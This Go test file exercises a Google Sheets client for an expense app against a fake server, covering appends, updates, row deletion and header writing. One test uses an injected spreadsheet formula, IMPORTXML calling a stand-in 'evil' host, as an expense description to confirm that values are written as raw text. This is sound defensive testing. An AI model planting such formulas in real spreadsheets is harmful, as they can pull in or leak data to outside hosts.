package google

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	goption "google.golang.org/api/option"
	gsheet "google.golang.org/api/sheets/v4"

	"spendlog/internal/core"
)

type sheetsCall struct {
	method string
	path   string
	query  map[string]string
	body   []byte
}

// fakeSheets answers the Sheets v4 calls the client makes and records every request.
type fakeSheets struct {
	mu         sync.Mutex
	idColumn   [][]interface{}
	header     [][]interface{}
	sheetTitle string
	calls      []sheetsCall
}

func (f *fakeSheets) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	f.mu.Lock()
	defer f.mu.Unlock()

	q := map[string]string{}
	for k := range r.URL.Query() {
		q[k] = r.URL.Query().Get(k)
	}
	f.calls = append(f.calls, sheetsCall{method: r.Method, path: r.URL.Path, query: q, body: body})

	w.Header().Set("Content-Type", "application/json")
	var resp any = map[string]any{}
	switch {
	case r.Method == http.MethodGet && strings.HasSuffix(r.URL.Path, "!A:A"):
		resp = map[string]any{"values": f.idColumn}
	case r.Method == http.MethodGet && strings.HasSuffix(r.URL.Path, "!A1:F1"):
		resp = map[string]any{"values": f.header}
	case r.Method == http.MethodGet && r.URL.Path == "/v4/spreadsheets/sheet-id":
		resp = map[string]any{"sheets": []any{
			map[string]any{"properties": map[string]any{"sheetId": 42, "title": f.sheetTitle}},
		}}
	}
	_ = json.NewEncoder(w).Encode(resp)
}

func (f *fakeSheets) find(method, suffix string) []sheetsCall {
	f.mu.Lock()
	defer f.mu.Unlock()
	var out []sheetsCall
	for _, c := range f.calls {
		if c.method == method && strings.HasSuffix(c.path, suffix) {
			out = append(out, c)
		}
	}
	return out
}

func newTestClient(t *testing.T, fake *fakeSheets) *Client {
	t.Helper()
	if fake.sheetTitle == "" {
		fake.sheetTitle = "Expenses"
	}
	srv := httptest.NewServer(fake)
	t.Cleanup(srv.Close)

	svc, err := gsheet.NewService(context.Background(),
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithoutAuthentication())
	if err != nil {
		t.Fatalf("create service: %v", err)
	}
	return newClient(svc, Config{SpreadsheetID: "sheet-id", SheetName: "Expenses"}, nil)
}

func testExpense(id int64, description string) core.ExpenseWithCategory {
	return core.ExpenseWithCategory{
		Expense: core.Expense{
			ID:          id,
			Amount:      core.NewMoney(2550),
			Description: description,
			Date:        core.NewDate(2024, 1, 15),
			CategoryID:  1,
			CreatedAt:   time.Date(2024, 1, 15, 12, 0, 0, 0, time.UTC),
		},
		Category: core.Category{ID: 1, Name: "Food"},
	}
}

func decodeRow(t *testing.T, body []byte) []interface{} {
	t.Helper()
	var vr gsheet.ValueRange
	if err := json.Unmarshal(body, &vr); err != nil {
		t.Fatalf("decode value range: %v", err)
	}
	if len(vr.Values) != 1 {
		t.Fatalf("expected one row, got %v", vr.Values)
	}
	return vr.Values[0]
}

func TestUpsertAppendsNewRowAsRawValues(t *testing.T) {
	fake := &fakeSheets{idColumn: [][]interface{}{{"ID"}, {"5"}}}
	c := newTestClient(t, fake)

	formula := `=IMPORTXML("http://evil/x","//a")`
	if err := c.Upsert(context.Background(), testExpense(9, formula)); err != nil {
		t.Fatalf("Upsert: %v", err)
	}

	appends := fake.find(http.MethodPost, "'Expenses'!A:F:append")
	if len(appends) != 1 {
		t.Fatalf("expected one append, got %+v", fake.calls)
	}
	call := appends[0]
	if call.query["valueInputOption"] != "RAW" {
		t.Errorf("valueInputOption = %q, want RAW", call.query["valueInputOption"])
	}
	if call.query["insertDataOption"] != "INSERT_ROWS" {
		t.Errorf("insertDataOption = %q", call.query["insertDataOption"])
	}

	row := decodeRow(t, call.body)
	if row[0] != float64(9) {
		t.Errorf("id cell = %v", row[0])
	}
	if row[1] != "2024-01-15" {
		t.Errorf("date cell = %v", row[1])
	}
	if row[2] != formula {
		t.Errorf("description cell = %v", row[2])
	}
	if row[3] != 25.5 {
		t.Errorf("amount cell = %v", row[3])
	}
	if row[4] != "Food" {
		t.Errorf("category cell = %v", row[4])
	}
	if len(fake.find(http.MethodPut, "")) != 0 {
		t.Error("new row must not be written with an update")
	}
}

func TestUpsertUpdatesExistingRow(t *testing.T) {
	fake := &fakeSheets{idColumn: [][]interface{}{{"ID"}, {"5"}, {"9"}}}
	c := newTestClient(t, fake)

	if err := c.Upsert(context.Background(), testExpense(9, "Lunch")); err != nil {
		t.Fatalf("Upsert: %v", err)
	}

	updates := fake.find(http.MethodPut, "'Expenses'!A3:F3")
	if len(updates) != 1 {
		t.Fatalf("expected update of row 3, got %+v", fake.calls)
	}
	if updates[0].query["valueInputOption"] != "RAW" {
		t.Errorf("valueInputOption = %q, want RAW", updates[0].query["valueInputOption"])
	}
	if row := decodeRow(t, updates[0].body); row[2] != "Lunch" {
		t.Errorf("description cell = %v", row[2])
	}
	if len(fake.find(http.MethodPost, ":append")) != 0 {
		t.Error("existing row must not be appended")
	}
}

func TestRemoveDeletesMatchingRow(t *testing.T) {
	fake := &fakeSheets{idColumn: [][]interface{}{{"ID"}, {"5"}, {"9"}}}
	c := newTestClient(t, fake)
	ctx := context.Background()

	if err := c.Remove(ctx, 9); err != nil {
		t.Fatalf("Remove: %v", err)
	}
	batches := fake.find(http.MethodPost, "/v4/spreadsheets/sheet-id:batchUpdate")
	if len(batches) != 1 {
		t.Fatalf("expected one batchUpdate, got %+v", fake.calls)
	}
	var req gsheet.BatchUpdateSpreadsheetRequest
	if err := json.Unmarshal(batches[0].body, &req); err != nil {
		t.Fatalf("decode batch: %v", err)
	}
	if len(req.Requests) != 1 || req.Requests[0].DeleteDimension == nil {
		t.Fatalf("unexpected batch %s", batches[0].body)
	}
	rng := req.Requests[0].DeleteDimension.Range
	if rng.SheetId != 42 || rng.Dimension != "ROWS" || rng.StartIndex != 2 || rng.EndIndex != 3 {
		t.Errorf("unexpected range %+v", rng)
	}

	// The sheet id is resolved once.
	if err := c.Remove(ctx, 5); err != nil {
		t.Fatalf("Remove: %v", err)
	}
	if got := len(fake.find(http.MethodGet, "/v4/spreadsheets/sheet-id")); got != 1 {
		t.Errorf("spreadsheet metadata fetched %d times", got)
	}

	// Unknown ids are a no-op.
	if err := c.Remove(ctx, 77); err != nil {
		t.Fatalf("Remove missing: %v", err)
	}
	if got := len(fake.find(http.MethodPost, ":batchUpdate")); got != 2 {
		t.Errorf("expected 2 batch updates, got %d", got)
	}
}

func TestRemoveFailsForUnknownSheet(t *testing.T) {
	fake := &fakeSheets{idColumn: [][]interface{}{{"ID"}, {"9"}}, sheetTitle: "Other"}
	c := newTestClient(t, fake)

	err := c.Remove(context.Background(), 9)
	if err == nil || !strings.Contains(err.Error(), `sheet "Expenses" not found`) {
		t.Fatalf("expected sheet not found, got %v", err)
	}
}

func TestEnsureHeader(t *testing.T) {
	t.Run("writes header into empty sheet", func(t *testing.T) {
		fake := &fakeSheets{}
		c := newTestClient(t, fake)
		if err := c.EnsureHeader(context.Background()); err != nil {
			t.Fatalf("EnsureHeader: %v", err)
		}
		puts := fake.find(http.MethodPut, "'Expenses'!A1:F1")
		if len(puts) != 1 {
			t.Fatalf("expected header write, got %+v", fake.calls)
		}
		if puts[0].query["valueInputOption"] != "RAW" {
			t.Errorf("valueInputOption = %q", puts[0].query["valueInputOption"])
		}
		if row := decodeRow(t, puts[0].body); row[0] != "ID" || row[5] != "Created At" {
			t.Errorf("unexpected header %v", row)
		}
	})

	t.Run("keeps existing header", func(t *testing.T) {
		fake := &fakeSheets{header: [][]interface{}{{"ID", "Date"}}}
		c := newTestClient(t, fake)
		if err := c.EnsureHeader(context.Background()); err != nil {
			t.Fatalf("EnsureHeader: %v", err)
		}
		if len(fake.find(http.MethodPut, "")) != 0 {
			t.Error("existing header must not be rewritten")
		}
	})
}
